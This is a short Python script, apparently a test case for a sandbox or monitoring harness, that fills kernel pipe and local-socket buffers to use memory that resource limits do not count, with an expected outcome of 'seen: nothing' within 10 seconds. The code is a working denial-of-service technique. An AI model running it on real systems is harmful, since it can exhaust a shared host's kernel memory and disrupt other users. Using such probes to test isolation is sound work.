# goal: fill the kernel's buffers of pipes and local sockets, which no limit of memory counts
# seen: nothing
# within_s: 10
import fcntl
import os
import socket

kept = []
try:
    while True:
        ends = os.pipe()
        kept.append(ends)
        os.set_blocking(ends[1], False)
        try:
            fcntl.fcntl(ends[1], 1031, 1 << 20)
        except OSError:
            pass
        os.write(ends[1], bytes(1 << 20))
except OSError:
    pass
for ends in kept[:4]:
    os.close(ends[0]), os.close(ends[1])
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        pair[0].send(bytes(1 << 20))
except OSError:
    pass
